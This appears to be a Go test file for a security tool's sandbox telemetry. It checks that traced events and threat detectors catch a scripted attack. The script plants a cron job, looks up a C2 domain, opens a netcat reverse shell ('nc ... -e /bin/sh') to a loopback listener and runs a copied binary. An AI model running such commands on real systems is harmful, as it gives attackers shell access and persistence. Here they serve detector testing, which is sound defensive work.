package telemetry_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/secpipe/secpipe/internal/executor/fswatch"
	"github.com/secpipe/secpipe/internal/executor/sandbox"
	"github.com/secpipe/secpipe/internal/executor/telemetry"
	"github.com/secpipe/secpipe/internal/image/base"
	"github.com/secpipe/secpipe/internal/pipeline"
	"github.com/secpipe/secpipe/internal/scan/threat"
	"github.com/secpipe/secpipe/internal/scan/threat/intel"
)

// need skips the test when a tool is missing, and fails it under CI.
func need(t testing.TB) {
	t.Helper()
	missing := ""
	if err := sandbox.Available(); err != nil {
		missing = err.Error()
	} else if os.Geteuid() != 0 {
		missing = "the sandbox needs root"
	} else if _, err := os.Stat("/bin/busybox"); err != nil {
		missing = "busybox-static is not installed: apt-get install busybox-static"
	} else if _, err := exec.LookPath("strace"); err != nil {
		missing = "strace is not installed: apt-get install strace"
	}
	if missing == "" {
		return
	}
	if os.Getenv("CI") != "" {
		t.Fatal(missing)
	}
	t.Skip(missing)
}

// busyboxRoot returns a fresh busybox root.
func busyboxRoot(t *testing.T) string {
	t.Helper()
	need(t)
	root := filepath.Join(t.TempDir(), "root")
	if _, err := base.Prepare(context.Background(), "busybox", root, base.Options{}); err != nil {
		t.Fatal(err)
	}
	return root
}

// attack does what the detectors should catch. The sandbox has no network,
// so the script puts the addresses it contacts on its loopback device: the
// DNS query is then really sent (nobody answers), and nc reaches a
// listener of the script's own.
const attack = `
echo hi > /tmp/x
mkdir -p /etc/cron.d && echo x > /etc/cron.d/job
ip addr add 10.0.0.53/32 dev lo && ip addr add 10.0.0.9/32 dev lo
nslookup guarddutyc2activityb.com 10.0.0.53 >/dev/null 2>&1
echo exit | nc -l -p 4444 &
for i in 1 2 3 4 5 6 7 8 9 10; do nc 10.0.0.9 4444 -e /bin/sh && break; sleep 0.05; done 2>/dev/null
wait
cp /bin/busybox /tmp/newbin && /tmp/newbin true
cd /tmp && echo y > rel && mv rel moved && chmod 755 moved && rm moved
exit 3
`

func runScript(t *testing.T, root, script string) (int, []threat.Event, []byte, telemetry.Stats) {
	t.Helper()
	var out, events bytes.Buffer
	spec := sandbox.Spec{Root: root, Argv: []string{"/bin/sh", "-c", script},
		Env: []string{"PATH=/usr/sbin:/usr/bin:/sbin:/bin"}, Stdout: &out, Stderr: &out}
	code, stats, err := telemetry.Run(context.Background(), spec, &events, telemetry.Options{Timeout: 20 * time.Second})
	if err != nil {
		t.Fatalf("Run: %v; output %s", err, out.String())
	}
	r := threat.NewReader("events", bytes.NewReader(events.Bytes()), threat.ReadOptions{})
	var evs []threat.Event
	for {
		ev, err := r.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("read the events back: %v\n%s", err, events.String())
		}
		evs = append(evs, ev)
	}
	if stats.Events != len(evs) {
		t.Errorf("Stats.Events = %d, log has %d events", stats.Events, len(evs))
	}
	t.Logf("output: %s\nstats: %+v\nevents:\n%s", out.String(), stats, events.String())
	return code, evs, events.Bytes(), stats
}

func TestRunAttack(t *testing.T) {
	root := busyboxRoot(t)
	code, evs, raw, stats := runScript(t, root, attack)
	if code != 3 {
		t.Errorf("exit code = %d, want 3", code)
	}
	if stats.Unparsed != 0 {
		t.Errorf("Stats.Unparsed = %d, want 0", stats.Unparsed)
	}
	wants := []struct {
		name string
		ok   func(e threat.Event) bool
	}{
		{"exec of the command", func(e threat.Event) bool {
			return e.Type == threat.EventExec && e.Exe == "/bin/sh" && len(e.Argv) == 3 && e.Argv[1] == "-c"
		}},
		{"write /tmp/x", fileEvent(threat.OpCreate, "/tmp/x")},
		{"create /etc/cron.d/job", fileEvent(threat.OpCreate, "/etc/cron.d/job")},
		{"relative path resolved", fileEvent(threat.OpCreate, "/tmp/rel")},
		{"rename", fileEvent(threat.OpRename, "/tmp/moved")},
		{"chmod", fileEvent(threat.OpChmod, "/tmp/moved")},
		{"delete", fileEvent(threat.OpDelete, "/tmp/moved")},
		{"dns query", func(e threat.Event) bool {
			return e.Type == threat.EventDNS && e.Query == "guarddutyc2activityb.com" && e.QType == "A"
		}},
		{"udp connect to :53", func(e threat.Event) bool {
			return e.Type == threat.EventConnect && e.Proto == "udp" && e.DstIP.String() == "10.0.0.53" && e.DstPort == 53
		}},
		{"listen 4444", func(e threat.Event) bool {
			return e.Type == threat.EventListen && e.Proto == "tcp" && e.Port == 4444
		}},
		{"shell on the socket", func(e threat.Event) bool {
			return e.Type == threat.EventExec && e.Exe == "/bin/sh" && e.PPID != 0 &&
				e.FDs[0] == "socket:tcp:10.0.0.9:4444" && e.FDs[1] == e.FDs[0]
		}},
		{"applet exe and comm", func(e threat.Event) bool {
			return e.Type == threat.EventExec && e.Exe == "/bin/sh" && e.Comm == "nslookup" && e.PPID != 0
		}},
		{"new binary", func(e threat.Event) bool {
			return e.Type == threat.EventExec && e.Exe == "/tmp/newbin" && e.Comm == "newbin"
		}},
	}
	for _, w := range wants {
		if !slices.ContainsFunc(evs, w.ok) {
			t.Errorf("no event: %s", w.name)
		}
	}
	for _, e := range evs {
		if e.Time.IsZero() || e.PID == 0 {
			t.Errorf("event %d has no time or pid: %+v", e.Line, e)
		}
		if e.Type == threat.EventExec && strings.HasSuffix(e.Exe, "bwrap") {
			t.Errorf("bwrap's own exec reported: %+v", e)
		}
	}
	checkFindings(t, raw)
}

func fileEvent(op, path string) func(e threat.Event) bool {
	return func(e threat.Event) bool { return e.Type == threat.EventFile && e.Op == op && e.Path == path }
}

// checkFindings feeds the events to the detectors with the default lists.
func checkFindings(t *testing.T, raw []byte) {
	t.Helper()
	r := threat.NewReader("events", bytes.NewReader(raw), threat.ReadOptions{})
	got := map[string]bool{}
	_, err := threat.Detect(context.Background(), r, threat.Config{Intel: intel.NewSet(intel.Default(), nil)},
		func(f pipeline.Finding) error { got[f.RuleID] = true; return nil })
	if err != nil {
		t.Fatal(err)
	}
	for _, typ := range []string{threat.TypeC2Domain, threat.TypeCronModified, threat.TypeNewBinary,
		threat.TypeReverseShell, threat.TypeSuspiciousTool} {
		if !got[typ] {
			t.Errorf("no %s finding; got %v", typ, got)
		}
	}
}

func TestRunErrors(t *testing.T) {
	root := busyboxRoot(t)
	sh := func(script string) sandbox.Spec {
		return sandbox.Spec{Root: root, Argv: []string{"/bin/sh", "-c", script}, Env: []string{"PATH=/bin"}}
	}
	tests := []struct {
		name string
		spec sandbox.Spec
		opts telemetry.Options
		out  io.Writer
		is   error
	}{
		{name: "no command", spec: sandbox.Spec{Root: root}, is: pipeline.ErrInvalid},
		{name: "relative root", spec: sandbox.Spec{Root: "root", Argv: []string{"sh"}}, is: pipeline.ErrInvalid},
		{name: "no strace", spec: sh("true"), opts: telemetry.Options{Strace: "/nonexistent/strace"}, is: pipeline.ErrNotFound},
		{name: "timeout", spec: sh("sleep 10"), opts: telemetry.Options{Timeout: 300 * time.Millisecond}, is: context.DeadlineExceeded},
		{name: "events writer fails", spec: sh("echo > /tmp/y"), out: failWriter{}, is: errWrite},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := tt.out
			if out == nil {
				out = io.Discard
			}
			start := time.Now()
			_, _, err := telemetry.Run(context.Background(), tt.spec, out, tt.opts)
			if !errors.Is(err, tt.is) {
				t.Errorf("Run error = %v, want %v", err, tt.is)
			}
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("Run took %v", d)
			}
		})
	}
}

var errWrite = errors.New("disk full")

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errWrite }

func TestRunCommandNotFound(t *testing.T) {
	root := busyboxRoot(t)
	var out bytes.Buffer
	spec := sandbox.Spec{Root: root, Argv: []string{"/no/such/program"}, Stderr: &out}
	_, _, err := telemetry.Run(context.Background(), spec, io.Discard, telemetry.Options{})
	if err == nil || !strings.Contains(err.Error(), "bwrap") {
		t.Errorf("Run of a missing program: error %v, want bwrap's message", err)
	}
}

// BenchmarkSmoke compares a busybox smoke test in the sandbox with and
// without telemetry, and telemetry with file changes recorded by strace
// and by fanotify, all on a root on a tmpfs of its own:
// go test -bench Smoke -run XXX.
func BenchmarkSmoke(b *testing.B) {
	need(b)
	m, err := fswatch.MountTmpfs(filepath.Join(b.TempDir(), "root"))
	if err != nil {
		b.Fatal(err)
	}
	defer m.Close()
	if _, err := base.Prepare(context.Background(), "busybox", m.Dir, base.Options{}); err != nil {
		b.Fatal(err)
	}
	spec := sandbox.Spec{Root: m.Dir, Argv: []string{"/bin/sh", "-c",
		"for i in 1 2 3 4 5 6 7 8 9 10; do echo $i > /tmp/f$i; ls /tmp > /dev/null; cat /etc/passwd > /dev/null; done"},
		Env: []string{"PATH=/bin"}}
	b.Run("sandbox", func(b *testing.B) {
		for b.Loop() {
			if _, err := sandbox.Run(context.Background(), spec); err != nil {
				b.Fatal(err)
			}
		}
	})
	for _, watch := range []bool{false, true} {
		name := "telemetry/strace"
		if watch {
			name = "telemetry/fanotify"
		}
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				_, st, err := telemetry.Run(context.Background(), spec, io.Discard, telemetry.Options{WatchRoot: watch})
				if err != nil {
					b.Fatal(err)
				}
				if watch && st.Files != telemetry.FilesFanotify {
					b.Fatalf("files recorded by %s: %s", st.Files, st.FanotifyError)
				}
			}
		})
	}
}

// TestTraceHidden checks that the sandboxed command cannot reach strace's
// output: no descriptor of it leaks into the sandbox.
func TestTraceHidden(t *testing.T) {
	root := busyboxRoot(t)
	code, _, _, _ := runScript(t, root, "ls -l /proc/self/fd/ > /tmp/fds; ! grep -e secpipe-trace /tmp/fds")
	if code != 0 {
		b, _ := os.ReadFile(filepath.Join(root, "tmp/fds"))
		t.Errorf("the sandbox sees the trace: %s", b)
	}
}
